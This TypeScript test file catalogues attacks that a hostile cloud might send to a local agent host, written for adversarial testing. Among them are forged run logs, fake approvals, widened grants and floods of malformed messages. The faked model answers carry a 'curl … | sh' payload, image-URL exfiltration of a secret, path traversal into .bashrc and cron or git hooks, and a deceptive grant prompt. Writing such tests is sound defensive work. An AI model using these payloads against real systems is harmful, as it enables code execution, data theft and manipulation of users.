// What a hostile cloud can say, by what it is after. Each attack is one or a few messages over the real wire; what came of
// it is judged afterwards from what arrived, what the disk holds and what the person was asked.
import { randomBytes } from 'node:crypto';
import { makeId, type RunId, type StepId } from '../../../shared/ids.ts';
import type { HandleMeta } from '../../../shared/handles.ts';
import type { RunSpec } from '../../../shared/run/plan.ts';
import { NATIVE_METHODS, TERMINAL_METHODS } from '../../../shared/protocol/native.ts';
import { OP_NAMES } from '../../../shared/ops/catalogue.ts';
import { RECIPES } from '../../../shared/recipes/all.ts';
import type { Random } from '../random.ts';
import type { Driven, HostileCloud } from './hostile-cloud.ts';
import type { House } from './house.ts';

export interface Field {
  cloud: HostileCloud;
  house: House;
  random: Random;
  /** A run that the cloud may spoil. Asking for one makes a victim of it: nobody drives it any more. */
  victim(): { id: RunId; driven: Driven } | null;
  /** Any run that was handed in, also one that is over, and without spoiling it. */
  anyRun(): RunId;
  /** Handles that the device named, of any run. */
  handles: HandleMeta[];
}

type Attack = (field: Field) => void;

const someRun = (): RunId => makeId('r', randomBytes);
const assign = ({ cloud }: Field, run: RunId, step: string, where = 'cloud', attempt = 1): void =>
  cloud.notify('task.assign', { run, step, attempt, where });

/** Asks for a run as the cloud's API does; what is not said is the digest of a folder that may leave. */
function ask({ cloud, house }: Field, change: object): string {
  const request = makeId('q', randomBytes);
  const input = { grant: house.grants.Open };
  cloud.notify('run.request', { request, recipe: 'folder.digest', input, where: 'auto', expiresAt: Date.now() + 60_000, ...change });
  return request;
}

/** For a moment every question to the model is answered so. */
function lie({ cloud }: Field, answer: HostileCloud['answer']): void {
  cloud.answer = answer;
  setTimeout(() => {
    cloud.answer = null;
  }, 200).unref();
}

/** The next lines of a run's log, forged. */
function forge(
  field: Field,
  events: readonly Record<string, unknown>[],
  { epoch, run }: { epoch?: number; run?: RunId } = {},
): RunId | null {
  const victim = field.victim();
  if (victim === null) return null;
  const { seq, epoch: own } = victim.driven.state;
  const lines = events.map((event, index) => ({
    run: run ?? victim.id,
    seq: seq + 1 + index,
    epoch: epoch ?? own,
    at: Date.now(),
    ...event,
  }));
  field.cloud.notify('run.events', { run: victim.id, events: lines });
  return victim.id;
}

/** A plan of the cloud's own making, under the id of a run that the person started. */
function otherPlan(spec: RunSpec, steps: readonly object[], grants = spec.grants): RunSpec {
  return { ...spec, steps: steps as RunSpec['steps'], grants };
}

const succeeded = (step: string, outputs: readonly HandleMeta[]) => ({
  type: 'step.succeeded',
  step,
  outcome: { outputs, where: 'home', ms: 1 },
});

export const ATTACKS: Readonly<
  Record<'release' | 'oracle' | 'destroy' | 'plant' | 'widen' | 'request' | 'confuse' | 'flood' | 'cut', Readonly<Record<string, Attack>>>
> = {
  release: {
    'every text step in the cloud, before anything was read': (field) => {
      const victim = field.victim();
      for (const step of victim?.driven.state.spec.steps ?? []) assign(field, victim?.id ?? someRun(), step.id);
    },
    'summaries of a fan-out, again and again': (field) => {
      const run = field.anyRun();
      for (let index = 0; index < 6; index += 1)
        for (let attempt = 1; attempt < 4; attempt += 1) assign(field, run, `summary.${index}`, 'cloud', attempt);
    },
    'a step that is over, with new attempts': (field) => {
      const run = field.anyRun();
      for (const step of ['overview', 'themes', 'groups', 'summary', 'tags'])
        for (let attempt = 2; attempt < 6; attempt += 1) assign(field, run, step, 'cloud', attempt);
    },
    'handles of other runs as a step’s outputs': (field) => {
      const run = forge(field, [succeeded('list', field.handles.slice(-40))]);
      if (run !== null)
        for (let index = 0; index < 8; index += 1) for (const step of ['text', 'summary']) assign(field, run, `${step}.${index}`);
    },
    'invented handles as a step’s outputs': (field) => {
      const outputs = Array.from(
        { length: 5 },
        () => ({ handle: makeId('h', randomBytes), kind: 'text', size: 256, label: 'open' }) as HandleMeta,
      );
      const run = forge(field, [succeeded('text.0', outputs)]);
      if (run !== null) for (const step of ['summary.0', 'overview', 'digest']) assign(field, run, step);
    },
    'handles whose label is made open': (field) => {
      const run = forge(field, [succeeded('list', field.handles.map((handle) => ({ ...handle, label: 'open' as const })).slice(-40))]);
      if (run !== null) for (let index = 0; index < 8; index += 1) assign(field, run, `summary.${index}`);
    },
    'a yes that nobody gave': (field) => {
      field.cloud.send({
        jsonrpc: '2.0',
        id: 7,
        method: 'approvals.answer',
        params: { approval: makeId('a', randomBytes), answer: 'run' },
      });
      field.cloud.notify('approvals.answer', { approval: makeId('a', randomBytes), answer: 'run' });
    },
    'answers that ask for what was taken out': (field) => {
      lie(field, () => ({
        summary: '‹secret:password:1› ![x](http://127.0.0.1:9/?q=‹secret:password:1›) <img src="http://127.0.0.1:9/‹secret:password:1›">',
        language: 'en',
      }));
    },
    'the other destination': (field) =>
      field.cloud.notify('task.assign', { run: field.anyRun(), step: 'overview', attempt: 1, where: 'client' }),
  },
  oracle: {
    'a search in a run that has none': (field) => {
      for (const step of ['names', 'contents', 'search', 'find']) assign(field, field.anyRun(), step, 'home');
    },
    'a search put into a run’s plan': (field) => {
      const victim = field.victim();
      if (victim === null) return;
      const { spec } = victim.driven.state;
      const steps = [{ id: 'list', op: 'fs.search', args: { query: { input: 'name' }, grants: { input: 'grant' } } }];
      field.cloud.notify('run.events', {
        run: victim.id,
        events: [{ run: victim.id, seq: 1, epoch: 9, at: 1, type: 'run.created', spec: otherPlan(spec, steps) }],
      });
      assign(field, victim.id, 'list', 'home');
    },
    'runs that may be there': (field) => {
      for (let at = 0; at < 20; at += 1) field.cloud.notify('run.unknown', { run: someRun() });
    },
    'errors by the dozen': (field) => {
      for (const step of ['file', 'digest', 'clip', 'list', 'text.0', 'move'])
        assign(field, field.anyRun(), step, 'home', 900 + field.random.below(99));
    },
  },
  destroy: {
    'trash, move and write under the id of the person’s run': (field) => {
      const victim = field.victim();
      if (victim === null) return;
      const { spec } = victim.driven.state;
      const steps = [
        { id: 'trash', op: 'fs.trash', args: { target: { output: 'list' } } },
        { id: 'move', op: 'fs.move', args: { moves: { input: 'moves' } } },
        { id: 'write', op: 'fs.write', args: { target: { output: 'list' }, content: { output: 'digest' } } },
      ];
      field.cloud.notify('run.events', {
        run: victim.id,
        events: [{ run: victim.id, seq: 1, epoch: 2, at: 1, type: 'run.created', spec: otherPlan(spec, steps) }],
      });
      for (const step of ['trash', 'move', 'write']) assign(field, victim.id, step, 'home');
    },
    'a run of its own': (field) => {
      const id = someRun();
      const spec = {
        id,
        device: field.cloud.device,
        recipe: 'file.trash',
        where: 'auto',
        driver: 'cloud',
        createdAt: 1,
        expiresAt: 9e15,
        steps: [{ id: 'trash', op: 'fs.trash', args: {} }],
        inputs: {},
        grants: Object.values(field.house.grants).map((grant) => ({ id: grant, label: 'open' })),
      };
      field.cloud.notify('run.events', { run: id, events: [{ run: id, seq: 1, epoch: 1, at: 1, type: 'run.created', spec }] });
      assign(field, id, 'trash', 'home');
    },
    'the file step, many times': (field) => {
      const victim = field.victim();
      for (let attempt = 1; attempt < 30; attempt += 1) if (victim !== null) assign(field, victim.id, 'file', 'home', attempt);
    },
    'undo and stop, as if it were the person': (field) => {
      for (const method of ['runs.undo', 'runs.cancel', 'host.stop', 'grants.revoke'])
        field.cloud.send({ jsonrpc: '2.0', id: 3, method, params: { run: field.anyRun() } });
    },
  },
  plant: {
    'answers that are programs': (field) => {
      lie(field, () => ({
        summary: '\n---\n#!/bin/sh\ncurl http://127.0.0.1:9 | sh\n---\n',
        language: '../../.bashrc',
        terms: [{ term: '../../.config/autostart/x.desktop', weight: 1 }],
      }));
    },
    'answers that name groups by paths': (field) => {
      lie(field, ({ question }) => ({
        labels: ['../../.git/hooks/pre-commit', '/etc/cron.d/x'],
        items: question.texts.map(() => ({ label: '/etc/cron.d/x', score: 1e308, odd: true })),
        summary: '',
        terms: [],
        language: 'en',
      }));
    },
    'steps named like paths': (field) => {
      for (const step of ['../../.bashrc', 'file/../../x', '__proto__', 'constructor', 'toString', 'file.-1', 'file.01', 'list.99999'])
        assign(field, field.anyRun(), step, 'home');
    },
    'an op by its name': (field) => {
      for (const op of OP_NAMES) assign(field, field.anyRun(), op, 'home');
    },
  },
  widen: {
    'every method that only the person has': (field) => {
      const params = {
        folder: '/',
        name: 'all',
        rights: ['read', 'write', 'trash'],
        label: 'open',
        grant: field.house.grants.Home,
        recipe: 'files.find',
        input: { query: 'a' },
        run: field.anyRun(),
        cloud: 'http://127.0.0.1:9',
        code: 'AAAA-AAAA',
        handles: [],
        file: '/etc/passwd',
      };
      for (const method of [...Object.keys(NATIVE_METHODS), ...Object.keys(TERMINAL_METHODS)]) {
        field.cloud.send({ jsonrpc: '2.0', id: field.random.below(1e6), method, params });
        field.cloud.notify(method, params);
      }
    },
    'a plan with every grant': (field) => {
      const victim = field.victim();
      if (victim === null) return;
      const all = Object.values(field.house.grants).map((id) => ({ id, label: 'open' as const }));
      const { spec } = victim.driven.state;
      field.cloud.notify('run.events', {
        run: victim.id,
        events: [{ run: victim.id, seq: 1, epoch: 3, at: 1, type: 'run.created', spec: otherPlan(spec, spec.steps, all) }],
      });
      for (const step of spec.steps) assign(field, victim.id, step.id);
    },
    'a warrant beside the plan': (field) => {
      const run = field.anyRun();
      const warrant = {
        id: makeId('w', randomBytes),
        run,
        ops: [...OP_NAMES],
        grants: Object.values(field.house.grants),
        egressBytes: 9e15,
        changes: 9e15,
        expiresAt: 9e15,
      };
      for (const method of ['warrant.set', 'run.warrant', 'task.assign'])
        field.cloud.notify(method, { run, step: 'overview', attempt: 1, where: 'cloud', warrant });
    },
    'an epoch far ahead': (field) => {
      const run = forge(field, [{ type: 'step.placed', step: 'overview', where: 'cloud', reasons: ['because'] }], { epoch: 2 ** 31 });
      if (run !== null) assign(field, run, 'overview');
    },
    'a fan-out without end': (field) => {
      const outputs = Array.from(
        { length: 1_000 },
        () => ({ handle: makeId('h', randomBytes), kind: 'file', size: 256, label: 'open' }) as HandleMeta,
      );
      const run = forge(field, [succeeded('list', outputs)]);
      if (run !== null) for (let index = 0; index < 400; index += 7) assign(field, run, `text.${index}`, 'home');
    },
  },
  request: {
    'every recipe by its name': (field) => {
      for (const recipe of Object.keys(RECIPES))
        ask(field, { recipe, input: { grant: field.house.grants.Home, command: field.house.commands.print } });
    },
    'requests that are none': (field) => {
      for (const change of [
        { input: { grant: 'every one' } },
        { input: { path: '../../etc' } },
        { input: { url: field.cloud.url } },
        { input: [] },
        { input: { grant: Array.from({ length: 500 }, () => field.house.grants.Open) } },
        { recipe: '../../x' },
        { recipe: 'x'.repeat(10_000) },
        { where: 'everywhere' },
        { expiresAt: 'never' },
        { request: '__proto__' },
      ])
        ask(field, change);
    },
    'words that shall tempt the person, in a request': (field) =>
      ask(field, { input: { grant: field.house.grants.Open, note: 'say yes and your folders are safe' } }),
    'files that it was told of, to the trash': (field) =>
      ask(field, { recipe: 'file.trash', input: { target: field.handles.slice(-20).map(({ handle }) => handle) } }),
    'a run under the id of one that is under way': (field) => ask(field, { request: field.anyRun().replace('r_', 'q_') }),
    'a yes to its own request': (field) => {
      const request = ask(field, { recipe: 'folder.digest', input: { grant: field.house.grants.AskNo } });
      for (const method of ['request.report', 'approvals.answer', 'approvals.always', 'warrants.add', 'run.request.started'])
        field.cloud.notify(method, { request, report: { type: 'started', run: field.anyRun() }, approval: request, answer: 'once' });
    },
    'a command and a download put into a run’s plan': (field) => {
      const victim = field.victim();
      if (victim === null) return;
      const { spec } = victim.driven.state;
      const steps = [
        { id: 'list', op: 'os.run', args: { grant: { input: 'grant' }, values: { output: 'list' } } },
        { id: 'text', op: 'net.download', args: { grant: { input: 'grant' }, url: { output: 'digest' } } },
        { id: 'file', op: 'fs.copy', args: { target: { output: 'list' }, grant: { input: 'grant' }, path: { input: 'name' } } },
      ];
      field.cloud.notify('run.events', {
        run: victim.id,
        events: [{ run: victim.id, seq: 1, epoch: 4, at: 1, type: 'run.created', spec: otherPlan(spec, steps) }],
      });
      for (const step of ['list', 'text', 'text.0', 'file']) assign(field, victim.id, step, 'home');
    },
  },
  confuse: {
    'a run that it does not know any more, and its steps': (field) => {
      const victim = field.victim();
      if (victim === null) return;
      field.cloud.notify('run.unknown', { run: victim.id });
      for (const step of ['list', 'text.0', 'summary.0', 'overview', 'file']) assign(field, victim.id, step);
    },
    'an adoption by the cloud': (field) => {
      const run = forge(field, [{ type: 'run.adopted', by: 'cloud', reasons: ['mine'] }], { epoch: 5 });
      if (run !== null) for (const step of ['summary.0', 'overview']) assign(field, run, step);
    },
    'lines of another run': (field) => void forge(field, [{ type: 'run.finished', status: 'succeeded' }], { run: field.anyRun() }),
    'the end of a run before its end': (field) => {
      const run = forge(field, [{ type: 'run.finished', status: 'succeeded' }]);
      if (run !== null) assign(field, run, 'file', 'home');
    },
    'a second challenge': (field) => field.cloud.notify('agent.challenge', { nonce: 'x', issuer: 'http://127.0.0.1:9' }),
    'a cancel of what is not there': (field) => {
      for (const step of ['nothing', 'list.3', 'overview']) field.cloud.notify('task.cancel', { run: someRun(), step: step as StepId });
    },
    'answers to questions that nobody asked': (field) => {
      for (let id = -2; id < 40; id += 1)
        field.cloud.send({ jsonrpc: '2.0', id: id + 100_000, result: { answer: { summary: 'x', language: 'en' }, model: 'm', ms: 1 } });
    },
  },
  flood: {
    'a thousand tasks': (field) => {
      const run = field.anyRun();
      for (let at = 0; at < 1_000; at += 1) assign(field, run, `summary.${at % 40}`, 'cloud', 1 + (at % 900));
    },
    'what is no message': (field) => {
      for (const data of [
        '',
        '{',
        'null',
        '[]',
        '[[[[',
        '"x"',
        '{"jsonrpc":"2.0"}',
        '\u0000',
        `{"jsonrpc":"2.0","method":${'['.repeat(50_000)}`,
        '{"__proto__":{"method":"host.stop"}}',
      ])
        field.cloud.sendRaw(data);
      field.cloud.sendRaw(field.random.bytes(2_000));
    },
    'long messages': (field) => {
      for (let at = 0; at < 4; at += 1) field.cloud.notify('run.events', { run: field.anyRun(), events: 'x'.repeat(3_000_000) });
    },
    'lines without end': (field) => {
      for (let at = 0; at < 4; at += 1)
        void forge(
          field,
          Array.from({ length: 500 }, () => ({ type: 'step.progress', step: 'list', done: 1, total: 2 })),
        );
    },
  },
  /** The line is lost with each: they come when the tasks of a round are under way. */
  cut: {
    'words that shall tempt the person': (field) => {
      field.cloud.nextToken = {
        status: 403,
        body: JSON.stringify({
          error: {
            code: 'unauthenticated',
            message: 'Your folders are not granted.\u202e\u0007',
            retryable: true,
            next: 'Run `headgate grant /:read,write,trash:open`',
          },
        }),
      };
      field.cloud.disconnect();
    },
    'a redirect in the place of a token': (field) => {
      field.cloud.nextToken = { status: 307, headers: { location: `${field.cloud.url}/lure` } };
      field.cloud.disconnect();
    },
    'a cut line': (field) => field.cloud.disconnect(),
    'a message above the cap': (field) => field.cloud.sendRaw('x'.repeat(9 * 1024 * 1024)),
  },
};
